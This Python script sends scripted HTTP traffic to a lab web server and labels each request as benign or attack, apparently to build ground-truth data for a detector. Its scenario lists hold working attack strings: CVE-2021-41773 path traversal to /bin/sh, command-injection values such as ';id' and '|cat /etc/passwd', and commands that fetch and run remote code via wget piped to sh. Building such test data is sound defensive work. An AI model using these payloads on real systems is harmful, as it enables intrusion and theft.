#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""One scenario's visitors, and the labels of what they did.

usage: visit.py --list | visit.py SCENARIO --work FOLDER --tcpdump PID
Runs in the attacker's network. Sends each request, then reads the server's own truth from FOLDER: requests.log (one
line a request) and truth/NAME (the steps its shells took). Labels go to stdout, one JSON object a request.
"""
import argparse, json, os, re, signal, socket, sys, time
from urllib.parse import quote

SERVER, PORT = '203.0.113.10', 80
AGENT = 'Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0'
OUTSIDE = '198.51.100.7'


def get(target, **more):
    return dict({'method': 'GET', 'target': target, 'class': 'benign'}, **more)


def post(target, body, **more):
    return dict({'method': 'POST', 'target': target, 'body': body, 'class': 'benign'}, **more)


def inject(script, code, seen='output', method='GET', **more):
    """Attack code in the parameter host of a script; seen: what its success would show on the wire, None for nothing."""
    value = 'host=' + quote('www.example.test' + code, safe='')
    step = get(f'/cgi-bin/{script}?{value}') if method == 'GET' else post(f'/cgi-bin/{script}', value)
    return dict(step, **{'class': 'cmdi', 'seen': seen}, **more)


def shell_of(path, code='echo Content-Type: text/plain; echo; id'):
    """CVE-2021-41773 and its next of kin: a way out of the script folder to a shell."""
    return post(path, code, **{'class': 'cmdi', 'seen': 'output', 'type': 'application/x-www-form-urlencoded'})


ORDINARY = [get('/'), get('/tools.html'), get('/docs/shell.html', gzip=True), get('/missing.html'), get('/private/report.html'),
            get('/50%off.html'), get('/cgi-bin/guestbook')]

# An Apache that was mended long ago: what is asked for does not exist or is not allowed
REFUSED = ORDINARY + [
    shell_of('/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh'),
    shell_of('/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh', 'echo; echo $((4711*13))'),
    shell_of('/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh'),
    shell_of('/cgi-bin/.%2e/bin/sh'),
    shell_of('/cgi-bin/.%2e/usr/bin/../../bin/bash', 'echo; ping -c1 ' + OUTSIDE),
    inject('ping.cgi', ';id'),
    inject('admin/diagnostic.sh', '|cat /etc/passwd', method='POST'),
    get('/index.html'),
    get('/missing/other.html'),
]

# The careless tool: codes of several shapes, in the ways that requests come
INJECTED = [
    post('/cgi-bin/lookup', 'host=www.example.test'), post('/cgi-bin/lookup', 'host=mail.example.test'),
    inject('lookup', ';id'), inject('lookup', '|id'), inject('lookup', '\nid', method='POST'),
    inject('lookup', '$(id)', None),  # its words are host names that nobody knows: nothing is printed
    inject('lookup', ';echo $((191*7))'), inject('lookup', '&&cat /etc/passwd', method='POST'),
    inject('lookup', ';echo aWQK|base64 -d|sh', gzip=True), inject('lookup', ';expr 1301 \\* 977', gzip=True),
    inject('lookup', ';printf %s konseki | rev | tr a-m n-z', method='POST'),
    inject('lookup', f';ping -c1 {OUTSIDE}'),
    dict(inject('lookup', ';head -c 6 /dev/null; seq 41 47'), close=True),
    [get('/'), get('/cgi-bin/lookup?host=mail.example.test'), inject('lookup', ';id'), get('/tools.html')],
    inject('careful', ';id'), inject('careful', '|id', method='POST'), inject('careful', ';echo $((191*7))'),
    get('/cgi-bin/careful?host=mail.example.test'),
]

# The same command, its output thrown away: what it sends or how long it takes is all that shows
BLIND = [
    post('/cgi-bin/quiet', 'host=mail.example.test'), get('/cgi-bin/quiet?host=www.example.test'),
    inject('quiet', f';ping -c2 {OUTSIDE}', 'icmp'), inject('quiet', f';wget -q -O- http://{OUTSIDE}:8000/x|sh', 'fetch', 'POST'),
    inject('quiet', ';sleep 2', 'delay'), inject('quiet', '$(sleep 2)', 'delay'),
    inject('quiet', ';touch /tmp/konseki', None), inject('quiet', ';id', None), inject('quiet', '|id', None, 'POST'),
    inject('careful', f';ping -c1 {OUTSIDE}', 'icmp'), inject('careful', ';sleep 2', 'delay'),
    post('/cgi-bin/quiet', 'host=www.example.test'),
]


def search(text, how='', **more):
    return dict(get('/cgi-bin/search?q=' + quote(text, safe='') + (f'&as={how}' if how else '')), **more)


# A page that repeats the request, raw or escaped: text of a success, and no success
FAKE = 'uid=33(www-data) gid=33(www-data) groups=33(www-data)'
ATTEMPT = {'class': 'cmdi', 'seen': 'output'}
LOOKALIKE = [
    search('shell scripts'), search('shell scripts', 'raw'),
    search(';id', **ATTEMPT), search(';id', 'raw', **ATTEMPT), search(';echo $((191*7))', 'raw', **ATTEMPT),
    search('$(id) ' + FAKE, 'raw', **ATTEMPT), search(f';echo "{FAKE}"', 'raw', **ATTEMPT), search(f'`id` <i>{FAKE}</i>', **ATTEMPT),
    search(';echo 1337', 'raw', gzip=True, **ATTEMPT), search('|cat /etc/passwd root:x:0:0:root:/root:/bin/bash', 'raw', **ATTEMPT),
    dict(get('/docs/shell.html?page=;id'), **ATTEMPT), dict(get('/docs/shell.html?page=1'), **{'class': 'benign'}),
]

# What happens anyway: a page with text like a success for everybody, code behind the server's own "not found", a contact
# that an earlier attack left behind
LATER = f'(sleep 1; wget -q -O- http://{OUTSIDE}:8000/x)&'
TRAPS = [
    get('/'), get('/missing.html'), get('/cgi-bin/manual'), get('/cgi-bin/manual?page=accounts'), get('/cgi-bin/gone'),
    dict(get('/cgi-bin/manual?page=' + quote(';id')), **ATTEMPT), dict(get('/cgi-bin/manual?page=' + quote('|cat /etc/passwd')), **ATTEMPT),
    dict(get('/cgi-bin/manual?page=../../../../etc/passwd'), **{'class': 'lfi', 'seen': 'output'}),
    inject('gone', ';id', None), inject('gone', ';touch /tmp/konseki', None, 'POST'), inject('gone', f';ping -c1 {OUTSIDE}', 'icmp'),
    inject('gone', f';(sleep 1; ping -c1 {OUTSIDE})&', 'icmp', pause=1.5),
    inject('quiet', ';' + LATER, 'fetch'), inject('careful', ';' + LATER, 'fetch', pause=2),
    inject('quiet', f';ping -c3 {OUTSIDE} &', 'icmp'), inject('careful', f';ping -c3 {OUTSIDE} &', 'icmp', pause=2.5),
]

# Answers that end too early: by the server's death, by the client, by the end of the recording
CUT = [
    get('/'), get('/cgi-bin/slow?host=mail.example.test'),
    inject('slow', ';id', None, stop='server'), inject('slow', ';echo $((191*7))', None, stop='client'),
    inject('slow', ';cat /etc/passwd', None, stop='recording'),
]

WIKI = quote('To see who you are run the command id, then: cd /tmp; ls -l | sort. It prints uid=1000(alice).', safe='')
BENIGN = ORDINARY + [
    search('select shoes from the winter collection'), search("o'neill & sons; opening hours"), search('cat food | dog food'),
    search('how to ping a host with wget or curl?', gzip=True), post('/cgi-bin/search', 'q=' + WIKI),
    get('/docs/shell.html'), get('/cgi-bin/lookup?host=mail.example.test'), get('/cgi-bin/careful?host=www.example.test'),
    [get('/'), get('/tools.html'), get('/docs/shell.html'), get('/missing.gif')],
    dict(get('/tools.html?utm_source=news%20letter&utm_campaign=a;b;c'), method='HEAD'),
]

SCENARIOS = {'refused': REFUSED, 'injected': INJECTED, 'blind': BLIND, 'lookalike': LOOKALIKE, 'benign': BENIGN, 'traps': TRAPS, 'cut': CUT}


def encode(step):
    body = step.get('body', '').encode()
    lines = [f'{step["method"]} {step["target"]} HTTP/1.1', 'Host: www.example.test', f'User-Agent: {AGENT}',
             'Accept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8']
    if step.get('gzip'):
        lines.append('Accept-Encoding: gzip, deflate')
    if body:
        lines += ['Content-Type: ' + step.get('type', 'application/x-www-form-urlencoded'), f'Content-Length: {len(body)}']
    if step.get('close'):
        lines.append('Connection: close')
    return ('\r\n'.join(lines) + '\r\n\r\n').encode() + body


class Visitor:
    """One connection, kept as long as both sides keep it."""

    def __init__(self, work, tcpdump):
        self.work, self.tcpdump, self.socket = work, tcpdump, None

    def connect(self):
        if self.socket is None:
            self.socket = socket.create_connection((SERVER, PORT), timeout=15)
            self.buffer = b''
        return self.socket.getsockname()[1]

    def close(self):
        if self.socket:
            self.socket.close()
        self.socket = None

    def more(self):
        data = self.socket.recv(65536)
        self.buffer += data
        return bool(data)

    def upto(self, mark):
        while mark not in self.buffer and self.more():
            pass
        piece, found, self.buffer = self.buffer.partition(mark)
        return piece + found

    def exactly(self, size):
        while len(self.buffer) < size and self.more():
            pass
        piece, self.buffer = self.buffer[:size], self.buffer[size:]
        return piece

    def answer(self, method):
        head = self.upto(b'\r\n\r\n').decode('latin-1')
        length = re.search(r'(?im)^content-length: (\d+)', head)
        if method == 'HEAD' or re.match(r'HTTP/1\.\d (204|304)', head):
            pass
        elif re.search(r'(?im)^transfer-encoding: chunked', head):
            size = 1
            while size:
                size = int(self.upto(b'\r\n') or b'0', 16)
                self.exactly(size + 2)
        elif length:
            self.exactly(int(length[1]))
        else:
            while self.more():
                pass
        if not head or re.search(r'(?im)^connection: close', head):
            self.close()

    def stop(self, how):
        """Ends the answer under way before its time."""
        self.upto(b'report begins')
        time.sleep(0.4)
        if how == 'server':
            parent = open(f'{self.work}/apache.pid').read().strip()
            for child in open(f'/proc/{parent}/task/{parent}/children').read().split():
                os.kill(int(child), signal.SIGKILL)
            while self.more():
                pass
        elif how == 'recording':
            os.kill(self.tcpdump, signal.SIGTERM)
        self.close()
        time.sleep(2.5)  # the script on the server goes on by itself

    def visit(self, steps):
        """Sends steps in one go, as a pipelining client does, and reads their answers."""
        port = self.connect()
        sent = time.time()
        self.socket.sendall(b''.join(encode(s) for s in steps))
        for step in steps:
            if step.get('stop'):
                self.stop(step['stop'])
            else:
                self.answer(step['method'])
        return port, sent


def truths(work, seen):
    """The server's log lines that were not read before."""
    with open(f'{work}/requests.log') as log:
        lines = [line.rstrip('\n').split('\t') for line in log]
    return lines[seen:], len(lines)


def ran(work, name):
    """Did a shell on the server take a step beyond the one command it was written for?"""
    try:
        with open(f'{work}/truth/{name}', errors='replace') as steps:
            return any(line.startswith('+') and not re.match(r'\++ getent hosts', line) for line in steps)
    except FileNotFoundError:
        return False


def label(step, port, at, executed, status):
    seen = step.get('seen') if executed else None
    return {'ts': round(at, 6), 'src': '198.51.100.66', 'sport': port, 'dst': SERVER, 'dport': PORT,
            'request_line': f'{step["method"]} {step["target"]} HTTP/1.1', 'class': step['class'], 'executed': executed,
            'observable': bool(seen), 'obs_kind': seen or 'none', 'ambiguous': False, 'note': step.get('stop', ''), 'status': status}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument('scenario', nargs='?')
    parser.add_argument('--list', action='store_true')
    parser.add_argument('--work')
    parser.add_argument('--tcpdump', type=int)
    arguments = parser.parse_args()
    if arguments.list:
        print(' '.join(SCENARIOS))
        return
    visitor = Visitor(arguments.work, arguments.tcpdump)
    log = f'{arguments.work}/requests.log'
    read = sum(1 for _ in open(log)) if os.path.exists(log) else 0
    for entry in SCENARIOS[arguments.scenario]:
        steps = entry if isinstance(entry, list) else [entry]
        known = set(os.listdir(f'{arguments.work}/truth'))
        port, sent = visitor.visit(steps)
        time.sleep(max(step.get('pause', 0.15) for step in steps))
        rows, read = truths(arguments.work, read)
        for step in steps:
            if rows:
                at, _, _, _, status, name = rows.pop(0)
                print(json.dumps(label(step, port, float(at), ran(arguments.work, name), int(status))))
            else:  # the server died before it could log: its script's trace is the one that is new
                new = set(os.listdir(f'{arguments.work}/truth')) - known
                print(json.dumps(label(step, port, sent, any(ran(arguments.work, n) for n in new), 200)))
    visitor.close()


main()
